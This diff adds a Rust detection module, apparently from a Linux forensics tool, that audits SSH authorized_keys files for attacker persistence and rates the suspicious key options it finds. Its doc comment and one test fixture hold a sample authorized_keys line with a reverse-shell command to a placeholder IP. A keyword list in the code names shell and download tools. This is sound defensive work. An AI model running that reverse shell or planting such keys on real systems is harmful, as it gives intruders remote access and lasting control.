@@ -1,0 +1,378 @@
+//! `ssh.authorized_keys` — every key that can log in, as sshd would find it.
+//!
+//! **What it looks at:** for every account in `/etc/passwd`, each file named by sshd's effective
+//! `AuthorizedKeysFile` (global value and `Match` blocks; default `.ssh/authorized_keys
+//! .ssh/authorized_keys2`; `%h`, `%u`, `%U`, `%%` expanded, relative paths from the home), parsed
+//! with `huoyan_artifacts::authorized_keys`. Each file is listed with its keys' fingerprints
+//! (info; low for root). Separately reported: keys with `command=` (high, critical when the
+//! command looks like a shell or download), `environment=` (high), keys of system accounts,
+//! keys in `authorized_keys2`, files modified since `--since` (default 30 days), lines that are
+//! not keys, and files others can write.
+//!
+//! **Why an attacker leaves this trace:** appending a public key is the most common persistence
+//! on Linux servers (T1098.004): it survives password changes and needs no process. `command=`
+//! and `environment=` hide a payload that runs on each login; `authorized_keys2` and keys for
+//! service accounts are places defenders rarely read.
+//!
+//! **Example:** `/root/.ssh/authorized_keys:3 command="bash -i >& /dev/tcp/203.0.113.5/443 0>&1"
+//! ssh-ed25519 SHA256:… x@kali`.
+//!
+//! **ATT&CK:** T1098.004 (Account Manipulation: SSH Authorized Keys).
+
+use std::collections::HashSet;
+
+use huoyan_artifacts::authorized_keys::{self, KeyLine};
+use huoyan_artifacts::sshd_config;
+use huoyan_core::{CheckInfo, FileKind, Meta, Outcome, Severity};
+use serde_json::json;
+
+use crate::registry::{Area, Check};
+use crate::Context;
+
+/// See the module documentation.
+pub struct AuthorizedKeys;
+
+static INFO: CheckInfo = CheckInfo {
+    id: "ssh.authorized_keys",
+    title: "SSH authorized key",
+    title_zh: "SSH 授权公钥",
+    mitre: &["T1098.004"],
+    remediation: "Confirm each key with its owner (comment and fingerprint); keep a copy of the \
+                  file as evidence, delete keys nobody recognises, and match the fingerprint \
+                  against `Accepted publickey` lines in the auth log to find their logins.",
+    remediation_zh:
+        "逐一向使用者确认每个公钥（注释与指纹）；先保留文件副本作为证据，删除无人认领的公钥，\
+                     并用指纹匹配认证日志中的 `Accepted publickey` 记录以找出其登录。",
+};
+
+/// Largest key file read (a real one is a few KB).
+const CAP: u64 = 4 * 1024 * 1024;
+
+const DEFAULT_FILES: &[&str] = &[".ssh/authorized_keys", ".ssh/authorized_keys2"];
+
+fn looks_malicious(command: &str) -> bool {
+    let c = command.to_ascii_lowercase();
+    [
+        "/dev/tcp",
+        "/dev/udp",
+        "nc ",
+        "ncat",
+        "netcat",
+        "socat",
+        "bash -i",
+        "sh -i",
+        "mkfifo",
+        "curl",
+        "wget",
+        "base64",
+        "python",
+        "perl -e",
+        "telnet",
+        "/tmp/",
+        "/dev/shm/",
+        "|sh",
+        "| sh",
+        "|bash",
+        "| bash",
+    ]
+    .iter()
+    .any(|p| c.contains(p))
+}
+
+fn key_json(k: &KeyLine) -> serde_json::Value {
+    json!({
+        "line": k.line,
+        "type": k.key_type,
+        "fingerprint": k.fingerprint,
+        "comment": k.comment,
+        "options": k.options.iter().map(|(n, v)| match v {
+            Some(v) => format!("{n}={v}"),
+            None => n.clone(),
+        }).collect::<Vec<_>>(),
+    })
+}
+
+/// The file patterns sshd would use: global value (or default) plus Match-block values.
+fn patterns(ctx: &Context) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    match sshd_config::read(&ctx.root) {
+        Ok((cfg, _)) => {
+            match cfg.global("authorizedkeysfile") {
+                Some(d) => out.extend(d.args.iter().cloned()),
+                None => out.extend(DEFAULT_FILES.iter().map(|s| s.to_string())),
+            }
+            for d in cfg.in_match("authorizedkeysfile") {
+                out.extend(d.args.iter().cloned());
+            }
+        }
+        Err(_) => out.extend(DEFAULT_FILES.iter().map(|s| s.to_string())),
+    }
+    out.retain(|p| !p.eq_ignore_ascii_case("none"));
+    out.dedup();
+    out
+}
+
+struct FileCtx<'a> {
+    path: &'a str,
+    user: &'a str,
+    meta: &'a Meta,
+}
+
+impl FileCtx<'_> {
+    fn finding(&self, severity: Severity, what: String) -> huoyan_core::Finding {
+        INFO.finding(severity, format!("{}: {what}", self.path))
+            .path(self.path)
+            .user(self.user)
+            .at(self.meta.mtime)
+    }
+}
+
+impl Check for AuthorizedKeys {
+    fn info(&self) -> &'static CheckInfo {
+        &INFO
+    }
+
+    fn area(&self) -> Area {
+        Area::Persistence
+    }
+
+    fn run(&self, ctx: &Context, out: &mut Outcome) {
+        let since = ctx.recent_since();
+        let uid_min = huoyan_artifacts::login_defs::read(&ctx.root).uid_min;
+        let patterns = patterns(ctx);
+        let mut seen = HashSet::new();
+        for p in &ctx.users().passwd {
+            if !p.home.starts_with('/') || p.name.starts_with(['+', '-']) {
+                continue;
+            }
+            let uid = p.uid.unwrap_or(u32::MAX);
+            for pattern in &patterns {
+                let Some(path) = authorized_keys::expand_path(pattern, &p.home, &p.name, uid)
+                else {
+                    continue;
+                };
+                if !seen.insert((path.clone(), p.name.clone())) {
+                    continue;
+                }
+                let meta = match ctx.root.stat(&path) {
+                    Ok(m) => m,
+                    Err(e) => {
+                        out.gap_from(INFO.id, &e, true);
+                        continue;
+                    }
+                };
+                let data = match ctx.root.read_capped(&path, CAP) {
+                    Ok(d) => d,
+                    Err(e) => {
+                        out.gap_from(INFO.id, &e, true);
+                        continue;
+                    }
+                };
+                let fc = FileCtx {
+                    path: &path,
+                    user: &p.name,
+                    meta: &meta,
+                };
+                let system = uid != 0 && (uid < uid_min || uid == 65534);
+                examine_file(ctx, &fc, &data.data, uid, system, since, out);
+            }
+        }
+    }
+}
+
+fn examine_file(
+    ctx: &Context,
+    fc: &FileCtx,
+    data: &[u8],
+    uid: u32,
+    system: bool,
+    since: huoyan_core::Timestamp,
+    out: &mut Outcome,
+) {
+    let parsed = authorized_keys::parse(data);
+    let until = ctx.window.until.unwrap_or(ctx.now);
+    let recent = fc.meta.mtime.is_some_and(|t| t >= since && t <= until);
+    let link = ctx
+        .root
+        .lstat(fc.path)
+        .is_ok_and(|m| m.kind == FileKind::Symlink);
+    if !parsed.keys.is_empty() {
+        let keys: Vec<_> = parsed.keys.iter().map(key_json).collect();
+        let inventory = if uid == 0 {
+            Severity::Low
+        } else {
+            Severity::Info
+        };
+        out.add(
+            fc.finding(
+                inventory,
+                format!("{} key(s) may log in as {}", parsed.keys.len(), fc.user),
+            )
+            .evidence(json!({
+                "file": fc.path,
+                "user": fc.user,
+                "keys": keys,
+                "mtime": fc.meta.mtime.map(huoyan_core::time::format_utc),
+                "ctime": fc.meta.ctime.map(huoyan_core::time::format_utc),
+                "symlink": link,
+            })),
+        );
+    }
+    for k in &parsed.keys {
+        let mut reasons: Vec<(Severity, String)> = Vec::new();
+        if let Some(cmd) = k.option("command") {
+            let severity = if looks_malicious(cmd) {
+                Severity::Critical
+            } else {
+                Severity::High
+            };
+            reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
+        }
+        if let Some(env) = k.option("environment") {
+            let severity = if env.starts_with("LD_") || env.starts_with("BASH_ENV") {
+                Severity::Critical
+            } else {
+                Severity::High
+            };
+            reasons.push((severity, format!("sets environment=\"{env}\"")));
+        }
+        if system {
+            reasons.push((
+                Severity::High,
+                format!("key for system account {}", fc.user),
+            ));
+        }
+        if fc.path.ends_with("authorized_keys2") {
+            reasons.push((
+                Severity::Medium,
+                "key in the rarely used authorized_keys2".into(),
+            ));
+        }
+        if recent {
+            let severity = if uid == 0 {
+                Severity::High
+            } else {
+                Severity::Medium
+            };
+            reasons.push((
+                severity,
+                "file modified within the window of interest".into(),
+            ));
+        }
+        if reasons.is_empty() {
+            continue;
+        }
+        let severity = reasons.iter().map(|r| r.0).max().unwrap_or(Severity::Info);
+        let what: Vec<&str> = reasons.iter().map(|r| r.1.as_str()).collect();
+        let mut f = fc
+            .finding(
+                severity,
+                format!(
+                    "line {} key {} ({}): {}",
+                    k.line,
+                    k.fingerprint.as_deref().unwrap_or("?"),
+                    k.comment,
+                    what.join("; ")
+                ),
+            )
+            .evidence(json!({"file": fc.path, "user": fc.user, "key": key_json(k)}));
+        if let Some(from) = k.option("from") {
+            // Only address patterns are IPs; host-name patterns stay in the evidence.
+            for ip in from.split(',').map(|p| p.trim().trim_start_matches('!')) {
+                if !ip.is_empty()
+                    && ip
+                        .chars()
+                        .all(|c| c.is_ascii_hexdigit() || matches!(c, '.' | ':' | '/'))
+                {
+                    f = f.ip(ip.to_string());
+                }
+            }
+        }
+        out.add(f);
+    }
+    for bad in &parsed.bad {
+        out.add(
+            fc.finding(Severity::Low, format!("line {} is not a key", bad.line))
+                .evidence(json!({"file": fc.path, "line": bad.line, "text": bad.text})),
+        );
+    }
+    if fc.meta.perm() & 0o022 != 0 || (fc.meta.uid != uid && fc.meta.uid != 0) {
+        out.add(
+            fc.finding(
+                Severity::Medium,
+                format!(
+                    "writable by others or owned by another user (mode {:04o}, uid {})",
+                    fc.meta.perm(),
+                    fc.meta.uid
+                ),
+            )
+            .evidence(json!({"file": fc.path, "mode": format!("{:04o}", fc.meta.perm()), "uid": fc.meta.uid})),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::accounts::testing::{root_with, run_default, DEBIAN_PASSWD};
+
+    const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIJ4ns9x4F5fQmZ0r0F0mQ1r0o3o7Yw9y4n0ZKqk3iA0N";
+
+    fn set_old(base: &std::path::Path, path: &str) {
+        let f = std::fs::File::options()
+            .write(true)
+            .open(base.join(path.trim_start_matches('/')))
+            .expect("open");
+        f.set_modified(
+            std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000),
+        )
+        .expect("mtime");
+    }
+
+    #[test]
+    fn flags_command_key_system_account_and_custom_file() {
+        let passwd = DEBIAN_PASSWD.to_string();
+        let dir = root_with(&[
+            ("/etc/passwd", &passwd),
+            ("/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"),
+            ("/root/.ssh/authorized_keys", &format!("command=\"bash -i >& /dev/tcp/203.0.113.5/443 0>&1\",from=\"203.0.113.5\" ssh-ed25519 {KEY} x@kali\n")),
+            ("/etc/ssh/keys/www-data", &format!("ssh-ed25519 {KEY} web\n")),
+            ("/home/alice/.ssh/authorized_keys", &format!("ssh-ed25519 {KEY} alice@laptop\n")),
+        ]);
+        set_old(dir.path(), "/root/.ssh/authorized_keys");
+        set_old(dir.path(), "/etc/ssh/keys/www-data");
+        set_old(dir.path(), "/home/alice/.ssh/authorized_keys");
+        let out = run_default(&AuthorizedKeys, dir.path());
+        let root = out
+            .findings
+            .iter()
+            .find(|f| f.severity == Severity::Critical)
+            .expect("crit");
+        assert_eq!(root.users, vec!["root"]);
+        assert_eq!(root.ips, vec!["203.0.113.5"]);
+        assert!(out
+            .findings
+            .iter()
+            .any(|f| f.users == vec!["www-data"] && f.severity == Severity::High));
+        let alice: Vec<_> = out
+            .findings
+            .iter()
+            .filter(|f| f.users == vec!["alice"])
+            .collect();
+        assert_eq!(alice.len(), 1);
+        assert_eq!(alice[0].severity, Severity::Info);
+    }
+
+    #[test]
+    fn recent_key_is_reported() {
+        let dir = root_with(&[
+            ("/etc/passwd", DEBIAN_PASSWD),
+            (
+                "/home/alice/.ssh/authorized_keys",
+                &format!("ssh-ed25519 {KEY} new\n"),
+            ),
+        ]);
+        let out = run_default(&AuthorizedKeys, dir.path());
+        assert!(out.findings.iter().any(|f| f.severity == Severity::Medium));
+    }
+}
